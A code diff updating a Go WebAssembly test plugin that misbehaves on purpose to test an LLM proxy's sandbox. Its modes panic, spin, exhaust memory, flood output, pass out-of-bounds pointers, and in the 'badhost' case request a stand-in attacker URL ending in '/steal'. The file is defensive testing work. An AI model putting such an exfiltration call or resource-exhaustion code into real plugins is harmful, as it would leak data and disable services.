@@ -3,49 +3,65 @@
 // Command hostile is a test plugin that misbehaves on purpose; the requested
 // model picks how:
 //
-//	panic      panics inside the handler
-//	loop       spins forever without calling the host
+//	panic      panics in its start callback (the SDK recovers: the stream fails)
+//	loop       spins forever in its start callback
+//	sleep      calls time.Sleep(40s) in its start callback
 //	membomb    allocates until the memory cap
+//	exit       calls proc_exit in its start callback
+//	flood      emits 20,000 chunks of 1 KiB (20 MB) in one callback, ignoring the answers
+//	bigout     emits a 1 MiB chunk every 5 ms, 100 times (100 MB), ignoring the answers
 //	badhost    sends a request to a host it was not granted
 //	badptr     hands the host pointers outside its memory, then reports the statuses
-//	flood      streams 100 MB of output, ignoring the host's answers
-//	exit       calls proc_exit in the middle of a call
 //	silent     returns without answering
 //	tape       calls json_tape with a bad pointer, malformed JSON, a tape
 //	           too small and a good one, then reports what it saw
-//	ok         answers normally (proves the instance still works)
+//	slow       streams 20 chunks 50 ms apart from timers, each naming the
+//	           instance ({"instance":N,"n":i}), then finishes
+//	ok         answers "fine" (proves the instance still works); a stream
+//	           names the instance in its one chunk
 package main
 
 import (
 	"bytes"
+	"crypto/rand"
+	"encoding/binary"
 	"os"
 	"strconv"
+	"time"
 	"unsafe"
 
 	"github.com/llm-proxy/llm-proxy/sdk"
 )
 
-//go:wasmimport llmproxy_v1 emit
-func rawEmit(kind int32, buf unsafe.Pointer, length uint32) int32
+//go:wasmimport llmproxy_v2 emit
+func rawEmit(stream, kind int32, buf unsafe.Pointer, length uint32) int32
 
-//go:wasmimport llmproxy_v1 request_read
-func rawRequestRead(buf unsafe.Pointer, capacity uint32) int32
+//go:wasmimport llmproxy_v2 request_read
+func rawRequestRead(stream int32, buf unsafe.Pointer, capacity uint32) int32
 
-//go:wasmimport llmproxy_v1 http_send
-func rawHTTPSend(head unsafe.Pointer, headLen uint32, body unsafe.Pointer, bodyLen uint32) int32
+//go:wasmimport llmproxy_v2 http_send
+func rawHTTPSend(stream int32, head unsafe.Pointer, headLen uint32, body unsafe.Pointer, bodyLen uint32) int32
 
-//go:wasmimport llmproxy_v1 http_read
-func rawHTTPRead(handle int32, buf unsafe.Pointer, capacity uint32) int32
+//go:wasmimport llmproxy_v2 data_read
+func rawDataRead(buf unsafe.Pointer, capacity uint32) int32
 
-//go:wasmimport llmproxy_v1 json_tape
+//go:wasmimport llmproxy_v2 json_tape
 func rawJSONTape(buf unsafe.Pointer, length uint32, tape unsafe.Pointer, capacity uint32) int32
 
-type plugin struct{}
+type plugin struct{ sdk.Unimplemented }
+
+// instance is a random number naming this instance in the slow and ok
+// answers, so a test can tell which streams shared an instance.
+var instance = func() uint32 {
+	var b [4]byte
+	rand.Read(b[:])
+	return binary.LittleEndian.Uint32(b[:]) & 0x7fffffff
+}()
 
 var sink [][]byte
 
-func mode(c *sdk.Call) string {
-	req := c.Request()
+func mode(s *sdk.Stream) string {
+	req := s.Request()
 	i := bytes.Index(req, []byte(`"model":"`))
 	if i < 0 {
 		return ""
@@ -54,13 +70,21 @@ func mode(c *sdk.Call) string {
 	return string(rest[:bytes.IndexByte(rest, '"')])
 }
 
-func (plugin) Chat(c *sdk.Call) error       { return misbehave(c) }
-func (plugin) ChatStream(c *sdk.Call) error { return misbehave(c) }
-func (plugin) Embeddings(c *sdk.Call) error { return sdk.ErrUnsupported }
-func (plugin) Models(c *sdk.Call) error     { return sdk.ErrUnsupported }
+func (plugin) Chat(s *sdk.Stream) error       { return misbehave(s) }
+func (plugin) ChatStream(s *sdk.Stream) error { return misbehave(s) }
 
-func misbehave(c *sdk.Call) error {
-	switch mode(c) {
+func chunk(text string) []byte {
+	return []byte(`{"object":"chat.completion.chunk","choices":[{"index":0,"delta":{"content":` + strconv.Quote(text) + `}}]}`)
+}
+
+func whoami() string {
+	return `{"instance":` + strconv.FormatUint(uint64(instance), 10)
+}
+
+func misbehave(s *sdk.Stream) error {
+	addr := uintptr(0xFFFFFF00)
+	bad := *(*unsafe.Pointer)(unsafe.Pointer(&addr)) // deliberately outside memory
+	switch mode(s) {
 	case "panic":
 		var m map[string]int
 		m["boom"] = 1
@@ -69,37 +93,46 @@ func misbehave(c *sdk.Call) error {
 		for {
 			n++
 		}
+	case "sleep":
+		time.Sleep(40 * time.Second)
 	case "membomb":
 		for {
 			sink = append(sink, make([]byte, 1<<20))
 		}
-	case "badhost":
-		_, err := c.Send("GET", "https://attacker.example/steal", nil, nil)
-		return err
-	case "badptr":
-		addr := uintptr(0xFFFFFF00)
-		bad := *(*unsafe.Pointer)(unsafe.Pointer(&addr)) // deliberately outside memory
-		s1 := rawEmit(2, bad, 4096)
-		s2 := rawRequestRead(bad, 1<<20)
-		s3 := rawHTTPSend(bad, 1<<30, nil, 0)
-		s4 := rawHTTPRead(12345, bad, 10)
-		return c.Fail(500, []byte("statuses "+strconv.Itoa(int(s1))+" "+strconv.Itoa(int(s2))+" "+
-			strconv.Itoa(int(s3))+" "+strconv.Itoa(int(s4))))
-	case "flood":
-		chunk := []byte(`{"object":"chat.completion.chunk","choices":[{"index":0,"delta":{"content":"`)
-		chunk = append(chunk, bytes.Repeat([]byte("x"), 1<<20)...)
-		chunk = append(chunk, `"}}]}`...)
-		for i := 0; i < 100; i++ {
-			_ = c.EmitChunk(chunk)
-		}
-		return nil
 	case "exit":
 		os.Exit(3)
+	case "flood":
+		c := chunk(string(bytes.Repeat([]byte("x"), 1000)))
+		for i := 0; i < 20_000; i++ {
+			_ = s.EmitChunk(c)
+		}
+		return nil
+	case "bigout":
+		c := chunk(string(bytes.Repeat([]byte("x"), 1<<20)))
+		n := 0
+		var tick func(s *sdk.Stream) error
+		tick = func(s *sdk.Stream) error {
+			n++
+			_ = s.EmitChunk(c)
+			if n == 100 {
+				return s.Finish()
+			}
+			return s.After(5*time.Millisecond, tick)
+		}
+		return tick(s)
+	case "badhost":
+		return s.Send(sdk.Request{Method: "GET", URL: "https://attacker.example/steal"}, sdk.Relay)
+	case "badptr":
+		id := s.ID()
+		s1 := rawEmit(id, 2, bad, 4096)
+		s2 := rawRequestRead(id, bad, 1<<20)
+		s3 := rawHTTPSend(id, bad, 1<<30, nil, 0)
+		s4 := rawDataRead(bad, 10)
+		return s.Fail(500, []byte("statuses "+strconv.Itoa(int(s1))+" "+strconv.Itoa(int(s2))+" "+
+			strconv.Itoa(int(s3))+" "+strconv.Itoa(int(s4))))
 	case "silent":
 		return nil
 	case "tape":
-		addr := uintptr(0xFFFFFF00)
-		bad := *(*unsafe.Pointer)(unsafe.Pointer(&addr)) // deliberately outside memory
 		doc := []byte(`{"a":[1,"x"]}`)
 		var tape [20]uint32
 		s1 := rawJSONTape(bad, 16, unsafe.Pointer(&tape[0]), 80)
@@ -113,15 +146,32 @@ func misbehave(c *sdk.Call) error {
 		for _, w := range tape {
 			out += " " + strconv.Itoa(int(w))
 		}
-		return c.Fail(500, []byte(out))
+		return s.Fail(500, []byte(out))
+	case "slow":
+		if s.Op() != 2 {
+			return s.EmitBody([]byte(whoami() + `}`))
+		}
+		n := 0
+		var tick func(s *sdk.Stream) error
+		tick = func(s *sdk.Stream) error {
+			if n == 20 {
+				return s.Finish()
+			}
+			if err := s.EmitChunk([]byte(whoami() + `,"n":` + strconv.Itoa(n) + `}`)); err != nil {
+				return err
+			}
+			n++
+			return s.After(50*time.Millisecond, tick)
+		}
+		return tick(s)
 	}
-	if c.Op() == 2 {
-		if err := c.EmitChunk([]byte(`{"object":"chat.completion.chunk","choices":[{"index":0,"delta":{"content":"fine"}}]}`)); err != nil {
+	if s.Op() == 2 {
+		if err := s.EmitChunk(chunk("fine " + strconv.FormatUint(uint64(instance), 10))); err != nil {
 			return err
 		}
-		return nil
+		return s.Finish()
 	}
-	return c.EmitBody([]byte(`{"object":"chat.completion","choices":[{"index":0,"message":{"role":"assistant","content":"fine"},"finish_reason":"stop"}]}`))
+	return s.EmitBody([]byte(`{"object":"chat.completion","choices":[{"index":0,"message":{"role":"assistant","content":"fine"},"finish_reason":"stop"}]}`))
 }
 
 func init() { sdk.Register(plugin{}) }
